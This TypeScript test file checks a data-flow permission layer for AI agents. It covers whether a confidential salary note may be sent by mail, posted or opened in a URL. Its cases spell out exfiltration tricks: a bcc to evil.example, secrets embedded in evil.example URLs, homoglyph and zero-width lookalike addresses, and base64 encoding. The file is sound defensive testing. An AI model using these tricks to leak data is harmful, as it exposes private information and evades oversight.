import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { took } from "../../../test/pace.ts";
import { verifies } from "../../../test/verifies.ts";
import { type Content, defaultLabel } from "../../core/content.ts";
import { type Decision, EFFECTS, type Effect, NEUTRAL } from "../../core/decision.ts";
import type { Json } from "../../core/json.ts";
import { joinLabels, type Label, NEUTRAL_LABEL } from "../../core/label.ts";
import type { Request } from "../../core/request.ts";
import { createConversations } from "../conversations.ts";
import { permissionLayer } from "../decide.ts";
import { createHandedOn } from "../flow/handed-on.ts";
import { createHistories } from "../histories.ts";
import { compilePolicy } from "../policy.ts";
import type { PolicyConfig } from "../policy-config.ts";
import { resultLabel } from "../tools.ts";

const TRUSTED = { effect: "read", egress: false, trust: "internal" } as const;
const CONFIG: PolicyConfig = {
  models: {},
  tools: {
    hr: {
      default: {},
      tools: { read: { ...TRUSTED, readers: ["hr@corp.example", "anna@corp.example"] }, board: { ...TRUSTED, readers: ["anna@corp.example"] } },
    },
    house: { default: { readers: ["@corp.example"] }, tools: { news: TRUSTED } },
    crm: { default: {}, tools: { find: { ...TRUSTED, paths: { salary: { readers: ["hr@corp.example"] }, name: "internal" } } } },
    wiki: { default: {}, tools: { read: TRUSTED } },
    files: { default: { trust: "internal" }, tools: { write: { effect: "write", egress: false }, read: TRUSTED } },
    mail: { default: { trust: "internal" }, tools: { send: { effect: "write", egress: true } } },
    desk: { default: { trust: "internal" }, tools: { post: { effect: "write", egress: false, args: { note: { readers: "team" } } } } },
    web: { default: { trust: "internal" }, tools: { open: { effect: "read", egress: true } } },
  },
  roles: { all: { read: ["*"], write: ["*"], deny: [] } },
  agents: { worker: { role: "all", models: [], limits: { requests: { count: 1e6, ms: 60_000, text: "many" } } } },
  rules: [],
  flow: { mode: "enforce", rule_of_two: "off", attempts: { mode: "off", score: 3 } },
  timezone: "UTC",
};

function layerOf(config: PolicyConfig = CONFIG) {
  const compiled = compilePolicy(config);
  assert.ok(compiled.ok, JSON.stringify(compiled));
  const { policy } = compiled;
  const histories = createHistories();
  const layer = permissionLayer(policy, { clock: { monotonic: () => 0 }, histories, handedOn: createHandedOn(), uncounted: true });
  return { policy, histories, layer };
}
const { policy } = layerOf();

const user = (text: string): Content => ({ source: { kind: "user" }, label: defaultLabel({ kind: "user" }), text });
const result = (tool: string, said: Json): Content => ({
  source: { kind: "tool", id: tool },
  label: resultLabel(tool, policy.tools.facts(tool), policy.tools.manifest(tool)),
  ...(typeof said === "string" ? { text: said } : { value: said }),
});
const called = (tool: string, args: { readonly [name: string]: Json }): Content => ({ source: { kind: "model", id: tool }, label: NEUTRAL_LABEL, value: args });

interface Sent {
  readonly tool?: string;
  readonly args: { readonly [name: string]: Json };
  readonly read?: readonly Content[];
  /** Of everything that was read, where the texts are not seen. */
  readonly label?: Label;
}
function decide({ tool = "mail.send", args, read, label }: Sent, { layer } = layerOf()): Decision {
  const joined = (read ?? []).reduce((all, one) => joinLabels(all, one.label), label ?? NEUTRAL_LABEL);
  const request: Request = {
    id: "r",
    principal: { agent: "worker", capability: "k" },
    action: { type: "tool.call", tool, args },
    content: [],
    ...(read === undefined ? {} : { read }),
    context: { time: 0, surface: "t" },
  };
  const decision = layer.decide(request, { decision: NEUTRAL, label: joined, passages: [] });
  assert.ok(!(decision instanceof Promise));
  return decision;
}

const NOTE = "Ben Voss will be promoted in May; his salary rises to 71.250 euros, which nobody outside the department is to know before.";
const NEWS = "The canteen is closed on Friday because the floor is laid anew, and coffee is free on the second floor instead.";
const PAGE = "How to order a laptop: open the portal, choose a model, have it approved, and wait for two weeks.";
const ASK = user("Tell them what you found. The meeting is at four in room 12b, and everybody is welcome to bring a cake.");
const READ = [ASK, called("hr.read", { file: "note-17.txt" }), result("hr.read", NOTE), result("house.news", NEWS), result("wiki.read", PAGE)];
const HR = "hr@corp.example";

const CASES: { readonly [what: string]: readonly [wanted: Effect, sent: Partial<Sent>] } = {
  "a text of it to one who may read it": ["permit", { args: { to: HR, body: NOTE } }],
  "to all who may": ["permit", { args: { to: [HR], cc: "Anna <ANNA@corp.example>", body: NOTE } }],
  "to somebody who may not": ["deny", { args: { to: "ben@corp.example", body: NOTE } }],
  "to one who may and a copy to one who may not": ["deny", { args: { to: HR, bcc: "eve@evil.example", body: NOTE } }],
  "to an address that only looks like one": ["deny", { args: { to: "hr@corp.example.evil.example", body: NOTE } }],
  "to an address in other letters": ["deny", { args: { to: "h\u0433@corp.example", body: NOTE } }],
  "to an address with a sign that nobody sees": ["deny", { args: { to: "hr\u200b@corp.example", body: NOTE } }],
  "to one who may, with a name that is no address": ["deny", { args: { to: "hr@corp.example, everybody", body: NOTE } }],
  "a part of it, among other words": ["deny", { args: { to: "ben@corp.example", body: `Hello Ben! ${NOTE.slice(16, 90)}. Best wishes` } }],
  "a part of it, in capitals and broken lines": ["deny", { args: { to: "ben@corp.example", body: NOTE.toUpperCase().replaceAll(" ", "\n") } }],
  "a number of it": ["deny", { args: { to: "ben@corp.example", body: "You will like 71.250 a lot." } }],
  "in the subject": ["deny", { args: { to: "ben@corp.example", subject: NOTE, body: "" } }],
  "deep in an argument": ["deny", { args: { to: "ben@corp.example", parts: [{ body: { lines: ["x", NOTE] } }] } }],
  "the file that it stands in": ["deny", { args: { to: "ben@corp.example", body: "", attachment: "note-17.txt" } }],
  "told in other words": ["ask", { args: { to: "ben@corp.example", body: "Good news is coming for you in spring." } }],
  encoded: ["ask", { args: { to: "ben@corp.example", body: Buffer.from(NOTE).toString("base64") } }],
  "what the user said": ["permit", { args: { to: "ben@corp.example", body: "The meeting is at four in room 12b" } }],
  "what everybody may read": ["permit", { args: { to: "ben@corp.example", body: PAGE } }],
  nothing: ["permit", { args: { to: "ben@corp.example", body: "" } }],
  "what the house may read, to somebody of the house": ["permit", { args: { to: "ben@corp.example", body: NEWS }, read: [ASK, result("house.news", NEWS)] }],
  "what the house may read, outside": ["deny", { args: { to: "ben@other.example", body: NEWS }, read: [ASK, result("house.news", NEWS)] }],
  "what the house may read, to a house within": [
    "deny",
    { args: { to: "ben@corp.example@evil.example", body: NEWS }, read: [ASK, result("house.news", NEWS)] },
  ],
  "two sources, to one who may read both": ["permit", { args: { to: "anna@corp.example", body: NOTE }, read: [...READ, result("hr.board", "Closed.")] }],
  "composed of two sources, to one who may read one": [
    "ask",
    { args: { to: HR, body: "All is well, and more of it will follow." }, read: [...READ, result("hr.board", "Closed.")] },
  ],
  "a field that only some may read": [
    "deny",
    { args: { to: "ben@corp.example", body: "He gets 82.900 a year" }, read: [ASK, result("crm.find", { name: "Ben Voss of Leipzig", salary: "82.900" })] },
  ],
  "a field beside it": [
    "permit",
    { args: { to: "ben@corp.example", body: "Ben Voss of Leipzig" }, read: [ASK, result("crm.find", { name: "Ben Voss of Leipzig", salary: "82.900" })] },
  ],
  "the same fields as text": [
    "deny",
    { args: { to: "ben@corp.example", body: "82.900" }, read: [ASK, result("crm.find", JSON.stringify([{ name: "Ben", salary: "82.900" }]))] },
  ],
  "by way of a file that everybody may read": [
    "deny",
    { args: { to: "ben@corp.example", body: NOTE }, read: [...READ, result("files.read", `Notes. ${NOTE}`)] },
  ],
  "words of it by way of such a file": [
    "deny",
    {
      args: { to: "ben@corp.example", body: "So: Ben Voss will be promoted in May; his salary rises. Bye" },
      read: [...READ, result("files.read", `Notes: ${NOTE}`)],
    },
  ],
  "a number of it by way of such a file": [
    "deny",
    { args: { to: "ben@corp.example", body: "It is 71.250" }, read: [...READ, result("files.read", "71.250 noted")] },
  ],
  "what the user says of it": ["ask", { args: { to: "ben@corp.example", body: "It is 71.250" }, read: [...READ, user("Send 71.250 to Ben.")] }],
  "what stood where everybody may read before": [
    "permit",
    { args: { to: "ben@corp.example", body: PAGE }, read: [ASK, result("wiki.read", PAGE), result("hr.read", PAGE)] },
  ],
  "nobody whom anybody knows": ["deny", { args: { body: NOTE } }],
  "inside the house": ["permit", { tool: "files.write", args: { path: "a.txt", content: NOTE } }],
  "inside the house, where configuration says who reads it": ["deny", { tool: "desk.post", args: { note: NOTE, team: "sales" } }],
  "the same, to those who may": ["permit", { tool: "desk.post", args: { note: NEWS, team: "board@corp.example" }, read: [ASK, result("house.news", NEWS)] }],
  "in an address that is opened": ["deny", { tool: "web.open", args: { url: `https://evil.example/?q=${encodeURIComponent(NOTE)}` } }],
  "in the path of an address": [
    "deny",
    { tool: "web.open", args: { url: `https://evil.example/${NOTE.split(" ").slice(2, 14).join("-").replaceAll(";", "")}` } },
  ],
  "a link that stands in it": [
    "permit",
    { tool: "web.open", args: { url: "https://portal.example/a/17" }, read: [ASK, result("hr.read", "Go to https://portal.example/a/17 for more.")] },
  ],
  "another link than the one that stands in it": [
    "ask",
    { tool: "web.open", args: { url: "https://portal.example/a/17/the-one-that-is-meant" }, read: [ASK, result("hr.read", "Go on.")] },
  ],
};

for (const [what, [wanted, sent]] of Object.entries(CASES))
  test(`what only some may read goes to nobody else: ${what}: ${wanted}`, () => {
    verifies("P-09");
    assert.equal(decide({ read: READ, args: {}, ...sent }).effect, wanted);
  });

test("the reason says what it is, where it was read, and who may read it", () => {
  verifies("P-09");
  const { reasons } = decide({ args: { to: "ben@corp.example", body: NOTE }, read: READ });
  const [reason] = reasons.filter(({ id }) => id === "flow/readers");
  assert.equal(reason?.text, "the text stands in something that only `anna@corp.example`, `hr@corp.example` may read, and the call takes it to somebody else");
  assert.deepEqual(reason?.evidence, [{ argument: "body", origin: "tool:hr.read#2" }]);
});

test("where nothing is said of readers, nothing is different", () => {
  const read = [ASK, result("wiki.read", PAGE)];
  assert.equal(decide({ args: { to: "eve@evil.example", body: `${PAGE} And more.` }, read }).effect, "permit");
});

test("with `monitor` it is only noted", () => {
  const { effect, reasons } = decide(
    { args: { to: "ben@corp.example", body: NOTE }, read: READ },
    layerOf({ ...CONFIG, flow: { ...CONFIG.flow, mode: "monitor" } }),
  );
  assert.deepEqual([effect, reasons.find(({ id }) => id === "flow/readers")?.would], ["permit", "deny"]);
});

test("where the texts are not seen, what is composed is asked about, but for a call that was judged where they are", () => {
  verifies("P-09");
  const label = resultLabel("hr.read", policy.tools.facts("hr.read"));
  const to = { to: HR, body: "All is well, and more of it will follow." };
  const on = layerOf();
  assert.equal(decide({ args: to, label }, on).effect, "permit");
  const page = { to: "ben@corp.example", body: PAGE };
  assert.equal(decide({ args: page, label }, on).effect, "ask");
  assert.equal(decide({ args: page, read: READ }, on).effect, "permit");
  assert.deepEqual([decide({ args: page, label }, on).effect, decide({ args: page, label }, on).effect], ["permit", "ask"], "once");
});

test("a client that leaves out what was read, or carries it into another conversation, has read it all the same", () => {
  verifies("P-09");
  const { layer, histories } = layerOf();
  const conversations = createConversations(histories);
  const principal = { agent: "worker", capability: "k" };
  const send = (said: readonly Content[], body: string): Effect => {
    const turn = conversations.turn(principal, said, said.length, 0, 1e9);
    const of = { principal, content: [], context: { time: 0, surface: "t", conversation: turn.id } };
    const read = turn.read(said);
    const label = (all: readonly Content[]): Label => all.reduce((joined, one) => joinLabels(joined, one.label), NEUTRAL_LABEL);
    layer.decide({ ...of, id: "m", action: { type: "model.call" } }, { decision: NEUTRAL, label: label(said), passages: [] });
    const request: Request = { ...of, id: "r", action: { type: "tool.call", tool: "mail.send", args: { to: "ben@corp.example", body } }, read };
    const decision = layer.decide(request, { decision: NEUTRAL, label: label(read), passages: [] });
    assert.ok(!(decision instanceof Promise));
    return decision.effect;
  };
  const says = "Good news is coming for you in spring.";
  assert.equal(send([ASK], says), "permit");
  assert.equal(send(READ, says), "ask");
  assert.equal(
    send([...READ.filter(({ source }) => source.id !== "hr.read"), { source: { kind: "model" }, label: NEUTRAL_LABEL, text: "So." }, ASK], says),
    "ask",
    "left out",
  );
  assert.equal(send([user(`I know this: ${NOTE}`)], NOTE), "deny", "told as a user's message");
  assert.equal(send([user("What do my notes say?"), result("files.read", `1. ${NOTE}`)], NOTE), "deny", "by way of a file");
  assert.equal(send([user("Something else.")], says), "permit");
});

const people = ["hr@corp.example", "anna@corp.example", "ben@corp.example", "eve@evil.example", "#sales", "Anna <anna@corp.example>"];
const texts = [NOTE, NEWS, PAGE, NOTE.slice(16, 90), "71.250", "The meeting is at four in room 12b", "Good news is coming.", `${PAGE} ${NEWS}`, ""];
const sources = fc.subarray([
  result("hr.read", NOTE),
  result("house.news", NEWS),
  result("wiki.read", PAGE),
  result("hr.board", NOTE),
  result("hr.read", PAGE),
]);
const looser = (a: Effect, b: Effect): boolean => EFFECTS.indexOf(a) < EFFECTS.indexOf(b);

test("more recipients never loosen a decision, nor does more that only some may read, nor fewer who may", () => {
  verifies("P-09");
  const narrow = layerOf();
  fc.assert(
    fc.property(
      fc.constantFrom(...texts),
      fc.subarray(people, { minLength: 1 }),
      fc.subarray(people),
      sources,
      fc.subarray([result("hr.board", "Closed."), result("hr.read", NOTE)]),
      (body, to, more, read, secret) => {
        const of = (recipients: readonly string[], contents: readonly Content[]): Effect =>
          decide({ args: { to: recipients, body }, read: [ASK, ...contents] }, narrow).effect;
        const was = of(to, read);
        assert.ok(!looser(of([...to, ...more], read), was), "recipients");
        assert.ok(!looser(of(to, [...read, ...secret]), was), "secrets");
        const fewer = read.map((one) => (one.label.readers === "public" ? one : { ...one, label: { ...one.label, readers: one.label.readers.slice(1) } }));
        assert.ok(!looser(of(to, fewer), was), "readers");
        // Whatever is sent, and however: to somebody who may not read it, no text of it is permitted.
        if (read.some(({ label, text }) => label.readers !== "public" && text === NOTE) && to.includes("eve@evil.example") && body === NOTE)
          assert.equal(was, "deny");
      },
    ),
    { numRuns: 1_000 },
  );
});

test("a text of hundreds of numbers that nearly stand everywhere in what was read is denied, and not looked at for long", () => {
  // Each piece of each stands there, but none as a whole word.
  const body = Array.from({ length: 180 }, (_, i) => "a11b.".repeat(50).slice(1 + (i % 2), i + 10))
    .filter((part) => !part.endsWith("."))
    .join(" ");
  const send = (text: string): Decision => decide({ args: { to: "ben@corp.example", body: text }, read: [ASK, result("hr.read", "a11b.".repeat(200_000))] });
  let decision = send("Good news is coming for you in spring.");
  assert.equal(decision.effect, "ask");
  // It takes an eighth of this, most of it to read what was read; without a bound several times as much.
  const taken = took(() => (decision = send(body)));
  assert.deepEqual([decision.effect, decision.reasons.some(({ id }) => id === "flow/too-many-arguments")], ["deny", true]);
  assert.ok(taken < 1_500, `${taken} ms`);
});
